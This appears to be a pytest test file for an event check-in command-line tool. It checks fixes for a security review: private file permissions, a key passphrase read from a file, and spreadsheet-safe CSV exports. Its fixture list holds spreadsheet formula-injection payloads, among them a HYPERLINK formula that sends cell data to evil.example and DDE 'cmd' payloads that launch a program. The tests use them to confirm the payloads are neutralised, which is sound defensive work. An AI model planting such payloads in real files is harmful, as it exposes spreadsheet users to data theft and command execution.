"""Flaws 8, 9 (the command-line half) and 10 of the security review, through the real console scripts.

8: every file the CLI and the gate write is 0600 in folders 0700 (the database's WAL included),
   whatever the umask they were started with, and `checkin doctor` names anything looser.
9: the key passphrase comes from a file (--passphrase-file, $CHECKIN_KEY_PASSPHRASE_FILE, a systemd
   credential) with no passphrase in the environment at all.
10: index.csv and the gate's journal export are safe to open in a spreadsheet: a hostile name is
   written as text (a leading quote), every cell quoted, and reads back with the csv module.
"""

from __future__ import annotations

import csv
import io
import os
import sqlite3
from dataclasses import dataclass
from pathlib import Path

import pytest

from checkin.files import FORMULA_STARTS, spreadsheet_cell
from tests.support.cli import CHECKIN, GATE, clean_env, modes, ok, run_cli

PASSPHRASE = "correct horse battery staple"
EVENT_DAY = "2022-03-26T09:00"
PUBLIC = {"keys/keys.json", "keys/root.pub"}  # public key facts; the keys folder itself is 0700
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "+84 912 345 678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1",
]


@dataclass
class Deployment:
    home: Path
    passphrase_file: Path

    @property
    def folder(self) -> Path:
        return self.home / "D"

    def checkin(self, *args: str | Path, env: dict[str, str] | None = None) -> object:
        return run_cli(CHECKIN, "--config", self.folder / "config.toml", *args, cwd=self.home, env=env)


def guest_list() -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["name", "organisation", "category", "zones", "email"])
    for n, name in enumerate(HOSTILE):
        writer.writerow([name, HOSTILE[-1 - n], "@delegate", "hall", ""])
    writer.writerow(["Nguyễn Thị Ánh", "Sở TT&TT", "delegate", "hall", "anh@example.vn"])
    return out.getvalue()


@pytest.fixture(scope="module")
def deployment(tmp_path_factory: pytest.TempPathFactory) -> Deployment:
    """A deployment set up with no passphrase in any environment: it comes from a file throughout."""
    home = tmp_path_factory.mktemp("private")
    secret = home / "passphrase"
    secret.write_text(PASSPHRASE + "\n", encoding="utf-8")
    secret.chmod(0o600)
    d = Deployment(home, secret)
    ok(run_cli(CHECKIN, "init", "--dir", "D", cwd=home))
    ok(d.checkin("--passphrase-file", secret, "--now", "2022-03-20T09:00", "keys", "init"))
    ok(
        d.checkin(
            *("--now", "2022-03-20T09:00", "event", "create", "--id", "ev", "--name", "Sự kiện"),
            *("--start", "2022-03-26T07:30", "--end", "2022-03-26T17:30", "--zones", "hall,vip"),
        )
    )
    (home / "guests.csv").write_text(guest_list(), encoding="utf-8")
    by_env = clean_env(CHECKIN_KEY_PASSPHRASE_FILE=str(secret))
    ok(
        d.checkin(
            *("--now", "2022-03-20T10:00", "issue", "--event", "ev", "--csv", home / "guests.csv"),
            *("--out", d.folder / "out" / "ev"),
            env=by_env,
        )
    )
    ok(
        d.checkin(
            *("--passphrase-file", secret, "--now", "2022-03-20T10:00", "issue", "--event", "ev"),
            *("--name", HOSTILE[0], "--png", d.folder / "one.png", "--svg", d.folder / "one.svg"),
        )
    )
    ok(
        d.checkin(
            *("--passphrase-file", secret, "--now", "2022-03-26T06:00", "bundle", "export", "--event", "ev"),
            *("--out", d.folder / "usb" / "ev.ckb"),
        )
    )
    return d


# ---- flaw 8: private files ----------------------------------------------------------------------------


def test_every_file_the_cli_writes_is_private_whatever_the_umask(deployment: Deployment) -> None:
    found = modes(deployment.folder)
    assert {"checkin.db", "config.toml", "out/ev/index.csv", "out/ev/badges.pdf", "one.png", "usb/ev.ckb"} <= set(found)
    assert len([p for p in found if p.endswith(".png")]) == len(HOSTILE) + 2
    loose = {
        path: f"{mode:04o}"
        for path, mode in found.items()
        if path not in PUBLIC and mode != (0o700 if (deployment.folder / path).is_dir() else 0o600)
    }
    assert loose == {}
    assert {found[p] for p in PUBLIC} == {0o644}


def test_the_database_wal_takes_the_database_files_mode(deployment: Deployment) -> None:
    db = deployment.folder / "checkin.db"
    old = os.umask(0o022)  # whoever opens it next, with a lax umask, makes the WAL and shm
    try:
        connection = sqlite3.connect(db)
        try:
            assert connection.execute("PRAGMA journal_mode").fetchone() == ("wal",)
            assert connection.execute("SELECT count(*) FROM events").fetchone() == (1,)
            assert {f"{p.name}:{p.stat().st_mode & 0o777:o}" for p in db.parent.glob("checkin.db-*")} == {
                "checkin.db-wal:600",
                "checkin.db-shm:600",
            }
        finally:
            connection.close()
    finally:
        os.umask(old)


def test_doctor_passes_a_private_deployment_and_names_each_looser_mode(deployment: Deployment) -> None:
    clean = ok(deployment.checkin("doctor"))
    assert clean.stdout.startswith("ok: ")
    png = next((deployment.folder / "out" / "ev").glob("*.png"))
    loosened = [deployment.folder / "checkin.db", png, deployment.folder / "keys"]
    for path in loosened:
        path.chmod(0o755 if path.is_dir() else 0o644)
    (deployment.folder / "keys" / "root.pub").chmod(0o666)  # public, but not writable by others
    try:
        result = deployment.checkin("doctor", env=clean_env(CHECKIN_KEY_PASSPHRASE=PASSPHRASE))
    finally:
        for path in loosened:
            path.chmod(0o700 if path.is_dir() else 0o600)
        (deployment.folder / "keys" / "root.pub").chmod(0o644)
    assert result.returncode == 1, result.stderr
    lines = result.stdout.splitlines()
    assert len(lines) == 5, result.stdout
    assert all(line.startswith("warning: ") for line in lines)
    for path, mode, wanted in [(loosened[0], "0644", "600"), (png, "0644", "600"), (loosened[2], "0755", "700")]:
        assert any(f" {path} is {mode}, readable by others; run: chmod {wanted} {path}" in line for line in lines)
    assert any("root.pub is 0666, writable by others" in line for line in lines)
    assert "$CHECKIN_KEY_PASSPHRASE is set" in lines[-1] and PASSPHRASE not in result.stdout
    assert ok(deployment.checkin("doctor")).stdout.startswith("ok: ")


def test_gate_data_and_journal_export_are_private_and_spreadsheet_safe(deployment: Deployment) -> None:
    home, gate_data = deployment.home, deployment.home / "gate-data"
    usb = deployment.folder / "usb"
    ok(run_cli(GATE, "--data", gate_data, "enroll", "--bundle", usb / "ev.ckb", "--root-key", usb / "root.pub",
               "--zone", "hall", cwd=home))  # fmt: skip
    texts = [row["code"] for row in read_index(deployment)]
    operator = HOSTILE[2]
    ok(
        run_cli(
            GATE, "--data", gate_data, "run", "--texts", "-", "--headless", "--no-sync", "--now", EVENT_DAY,
            "--operator", operator, cwd=home, stdin="".join(f"{t}\n" for t in texts),
        )
    )  # fmt: skip
    export = home / "rows.csv"
    ok(run_cli(GATE, "--data", gate_data, "journal", "export", "--csv", export, cwd=home))
    found = modes(gate_data)
    assert "journal.db" in found
    assert {p: f"{m:o}" for p, m in found.items() if m != (0o700 if p == "." else 0o600) and p not in
            {"root.pub", "bundle.ckb"}} == {}  # fmt: skip
    assert export.stat().st_mode & 0o777 == 0o600
    rows = safe_rows(export.read_text(encoding="utf-8"))
    assert len(rows) == len(texts) + 1
    assert {row[rows[0].index("operator")] for row in rows[1:]} == {"'" + operator}


# ---- flaw 10: spreadsheet-safe CSV ----------------------------------------------------------------------


def safe_rows(text: str) -> list[list[str]]:
    """The CSV's rows, once every cell is checked: quoted in the file, never starting a formula."""
    for line in text.splitlines():
        assert line.startswith('"') and line.endswith('"'), line
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
    return rows


def read_index(deployment: Deployment) -> list[dict[str, str]]:
    text = (deployment.folder / "out" / "ev" / "index.csv").read_text(encoding="utf-8-sig")
    rows = safe_rows(text)
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_index_csv_writes_hostile_names_as_text(deployment: Deployment) -> None:
    rows = read_index(deployment)
    assert [row["name"] for row in rows] == [*("'" + name for name in HOSTILE), "Nguyễn Thị Ánh"]
    assert [row["organisation"] for row in rows[:-1]] == ["'" + name for name in reversed(HOSTILE)]
    assert {row["category"] for row in rows[:-1]} == {"'@delegate"}
    assert all(row["code"].startswith("CK1:") for row in rows)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("'=1", "'=1"),
        ("", ""),
        (None, ""),
        (7, "7"),
    ],
)
def test_spreadsheet_cell(value: object, cell: str) -> None:
    assert spreadsheet_cell(value) == cell


# ---- flaw 9: the passphrase from a file -------------------------------------------------------------------


def test_a_passphrase_file_in_the_credentials_directory_is_found(deployment: Deployment, tmp_path: Path) -> None:
    credentials = tmp_path / "credentials"
    credentials.mkdir()
    (credentials / "checkin-key-passphrase").write_text(PASSPHRASE, encoding="utf-8")
    result = deployment.checkin(
        "--now", "2022-03-20T11:00", "issue", "--event", "ev", "--name", "Trần Văn Bình",
        env=clean_env(CREDENTIALS_DIRECTORY=str(credentials)),
    )  # fmt: skip
    assert ok(result).stdout.splitlines()[-1].startswith("CK1:")


@pytest.mark.parametrize(
    ("content", "code"),
    [(b"not the passphrase\n", "wrong_passphrase"), (b"", "wrong_passphrase"), (b"x" * 5000, "invalid_input")],
)
def test_a_bad_passphrase_file_is_one_clear_line(
    deployment: Deployment, tmp_path: Path, content: bytes, code: str
) -> None:
    path = tmp_path / "passphrase"
    path.write_bytes(content)
    result = deployment.checkin(
        "--passphrase-file", path, "--now", "2022-03-20T11:00", "issue", "--event", "ev", "--name", "An"
    )
    assert result.returncode == 1
    assert "Traceback" not in result.stderr and "CK1:" not in result.stdout
    assert f"error [{code}]: " in result.stderr


def test_a_missing_passphrase_file_is_one_clear_line(deployment: Deployment, tmp_path: Path) -> None:
    result = deployment.checkin(
        "--now", "2022-03-26T06:00", "bundle", "export", "--event", "ev", "--out", tmp_path / "x.ckb",
        env=clean_env(CHECKIN_KEY_PASSPHRASE_FILE=str(tmp_path / "none")),
    )  # fmt: skip
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert str(tmp_path / "none") in result.stderr
    assert not (tmp_path / "x.ckb").exists()
